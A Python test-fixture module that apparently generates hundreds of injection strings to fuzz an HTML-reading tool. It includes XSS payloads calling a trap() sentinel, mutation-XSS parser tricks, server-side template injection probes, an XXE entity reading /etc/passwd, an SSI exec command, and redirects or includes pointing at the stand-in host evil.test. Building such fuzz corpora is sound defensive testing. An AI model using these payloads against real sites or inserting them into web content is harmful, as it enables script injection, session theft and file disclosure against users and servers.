"""Texts made to become more than text, and the page with every place a text can be written to.

`trap()` is defined in the page by html_browser.py; whatever calls it, or asks for an address, has won.
"""

from collections.abc import Iterator

PAGE = """<!doctype html>
<html lang="en">
<head>
{meta}
<title>The title of this page</title>
<meta name="description" content="The description">
<meta name='twitter:description' content='Single quoted'>
<meta property=og:title content=Unquoted>
<script type="application/ld+json">
{{"@type": "Article", "headline": "The headline", "description": "Linked data", "n": [1, "x"]}}
</script>
</head>
<body>
<main>
<h1>Plain heading</h1>
<p>Text block</p>
<p>Before <a href="#a">a link <b>in bold</b></a> and after<br>the break</p>
<p><b>First</b><i>second</i></p>
<ul><li>Unclosed item<li title=Tip>Another item</ul>
<p>x &lt; y &amp; z</p>
<table><tr><td>Cell text</table>
<p><img alt="Double quoted picture"> <img alt='Single quoted picture'> <img alt=Unquoted> pictures</p>
<p title="Double quoted tip">Tip one</p><p title='Single quoted tip'>Tip two</p>
<p title=Tipthree>Tip three</p>
<div aria-label="Double label">d</div><div aria-label='Single label'>s</div><div aria-label=Label>u</div>
<form><input placeholder="Double holder"><input placeholder='Single holder'><input placeholder=Holder>
<textarea placeholder="Area holder">raw text</textarea><input type=submit value=Send>
<button>Press me</button></form>
<p>Text at the end of <svg><title>t</title></svg> the page
"""
METAS = {
    "utf-8": '<meta charset="utf-8">',
    "windows-1252": '<meta charset="windows-1252">',
    "utf-16-le": "",
    "ascii": "",
}
# Ways out of where a text stands.
EXITS = (
    "", '"', "'", "`", ">", '">', "'>", '"/>', "-->", "--!>", "]]>", "</title>", "</script>", "</style>",
    "</textarea>", "</noscript>", "</p></main></body></html>", '"}</script>', "\\", '\\"', "</", "<!--",
    "<![CDATA[",
    "\r\n\r\n", "&quot;>", "&#34;>", "&#x22;&#x3e;", "&lt;/script&gt;",
)  # fmt: skip
# What may follow a way out.
MARKUP = (
    "<script>trap()</script>",
    "<img src=x onerror=trap()>",
    "<svg onload=trap()>",
    " autofocus onfocus=trap() tabindex=1 ",
    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "&lt;script&gt;trap()&lt;/script&gt;",
    "<ScRiPt\n>trap()</sCrIpT\t>",
)
WHOLE = (
    # Tags that are not quite tags.
    "<script", "<script/", "<script\x0c>trap()</script>", "<img src=x onerror=trap() ",
    "< script>trap()</script>",
    "<\x00script>trap()</script>", "<script\x00>trap()</script>", "<%00script>trap()</script>",
    "<<script>trap()//<</script>",
    "<a<script>trap()</script>", "</ script>", "</script ", "</script/", "</SCRIPT>", "<!",
    "<!doctype html>", "<?xml version='1.0'?>",
    "<?php trap() ?>", "<plaintext>", "<xmp>", "<noscript>", "<template>", "<frameset onload=trap()>",
    "<body onload=trap()>",
    "<html onclick=trap()>", "<form action=javascript:trap()><button>", "<isindex action=x>",
    "<marquee onstart=trap()>x",
    "<details open ontoggle=trap()>x", "<video onerror=trap()><source>", "<object data=javascript:trap()>",
    "<embed src=javascript:trap()>",
    "<a href=javascript:trap()>x</a>", "<a href='data:text/html,<script>trap()</script>'>x</a>",
    # Through the eyes of more than one parser.
    "<math><mtext></form><form><mglyph><style></math><img src onerror=trap()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=trap()>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=trap()>\">",
    "<svg><script>trap&#40;&#41;</script></svg>", "<svg><a xlink:href=javascript:trap()>x</a></svg>",
    "<svg><animate onbegin=trap() attributeName=x dur=1s>", "<table><td><script>trap()</script>",
    "<select><script>trap()</script></select>", "<!--><script>trap()</script>",
    "<!--!><img src=x onerror=trap()>-->",
    "<!--[if IE]><script>trap()</script><![endif]-->", "<![CDATA[<script>trap()</script>]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    # References, whole and broken.
    "&", "&&&&", "&amp;", "&amp;lt;script&amp;gt;", "&lt", "&lt;", "&#60;script&#62;trap()&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&#60script&#62", "&#0000060script>", "&LT;script&GT;", "&quot;", "&quot onmouseover=trap() x=&quot",
    "&apos;", "&#39;onclick=trap()",
    "&nbsp;", "&copy=1&reg=2", "&notin;&not", "&#0;", "&#xd800;", "&#x110000;", "&#99999999999;",
    "&#128;&#150;", "&Tab;&NewLine;",
    "&lpar;&rpar;&colon;", "&bogus;", "a&b=c&d", "AT&T &c", "&#", "&#x", "&#;", "&;",
    # Strings of scripts and JSON-LD.
    '"', "\\", "\\\\", '\\"', '"}', '","@type":"Thing', '"]}',
    "\\u003cscript\\u003etrap()\\u003c/script\\u003e", "\\u0022,\\u0022x\\u0022:\\u0022",
    "\u2028trap()\u2029", "*/trap()/*", "//trap()", "';trap()//", '";trap()//', "`${trap()}`",
    "</script><script>trap()//", "<!--<script>",
    "<!--<script></script>", "--></script><script>trap()</script>", "\\x3cscript>", "\\/", "\\", "\n}\n",
    "{}", "[]", "null", "true", "0", "\b\f",
    # Marks of template languages, on the server and in the browser.
    "{{trap()}}", "{{constructor.constructor('trap()')()}}", "{{{trap()}}}", "{% raw %}", "{%trap()%}",
    "{# x #}", "${trap()}", "#{trap()}",
    "<%= trap() %>", "<%trap()%>", "[[${trap()}]]", "[[trap()]]", "[(${trap()})]", "{!! trap() !!}",
    "@{trap()}", "{{=<% %>=}}", "{{>x}}",
    "{{#if x}}", "*{trap()}", "<#if x>", "$!{trap()}", "{{", "{%", "${", "[[", "<%", "{ {", "{\u200b{",
    "{&#123;", "&#123;&#123;trap()}}",
    "<!--#exec cmd='id'-->", "<!--#include virtual='/x'-->", "<esi:include src='//evil.test/'/>",
    "<?= trap() ?>", "{{'a'.sub.call.call()}}",
    # Other alphabets, other widths, other directions.
    "＜script＞trap()＜/script＞", "\uff02 onfocus=trap()", "ʺ onfocus=trap()", "‹script›", "\u00ab\u00bb",
    "＆lt；", "日本語<b>", "Ω≈ç√∫", "😀<script>",
    "\u202e<script>", "\u200b<\u200bscript>", "\ufeff<script>trap()</script>", "e\u0301" * 40, "\U000e0041",
    "ſcript", "<ſcript>trap()</ſcript>",
    "\u212amg", "\u0130", "<\u0131mg src=x onerror=trap()>", "\xa0<\xa0script>", "\x85<script>", "\u3000",
    "ß\u0308",
    "+ADw-script+AD4-trap()+ADw-/script+AD4-", "\x1b$B\x1b(J<script>", "\x1b(I",
    "%3Cscript%3Etrap()%3C/script%3E", "%u003Cscript%u003E",
    "\xc0\xbcscript\xc0\xbe", "\xe0\x80\xbc", "\x81<\x81>", "\xa1\xa2<script>", "�<script>",
    # Addresses, handlers, styles.
    "javascript:trap()", "java\tscript:trap()", "JaVaScRiPt:trap()", " onload=trap()", "onerror=trap() x=",
    "x onclick=trap()", "style=x:expression(trap())",
    "x' onclick='trap()", 'x" onclick="trap()', "x` onclick=`trap()", "x\nonclick=trap()",
    "x\fonclick=trap()", "x/onclick=trap()", "x>y",
    "url(javascript:trap())", "@import '//evil.test/x.css';", "}*{background:url(//evil.test/x)}",
    "data:text/html,<script>trap()</script>",
    "//evil.test/x.js", "http://evil.test/", "vbscript:trap()", "x=\"1\" src=//evil.test/x.png y=",
    # Plain shapes that trip simple rules.
    " ", "\t\n", "  two  spaces  ", "a" * 5000, "<" * 500, ">" * 500, "&" * 500, '"' * 500, "</p>" * 200,
    "<b>" * 200, "a\u0300" * 500,
    "\x00", "\x01\x02", "\x7f", "\ud800", "\udc00\ud800", "\uffff", "\ufdd0", "1 < 2 > 0", "if (a<b && c>d)",
    "x<y", "R&D", "'", "''", "it's", "“”",
)  # fmt: skip


def template(codec: str) -> bytes:
    data = PAGE.format(meta=METAS[codec]).encode(codec)
    return b"\xff\xfe" + data if codec == "utf-16-le" else data


def payloads() -> Iterator[str]:
    """All of them, each once."""
    made = (exit_ + markup for exit_ in EXITS for markup in MARKUP)
    yield from dict.fromkeys([*WHOLE, *made])


if __name__ == "__main__":
    print(sum(1 for _ in payloads()))
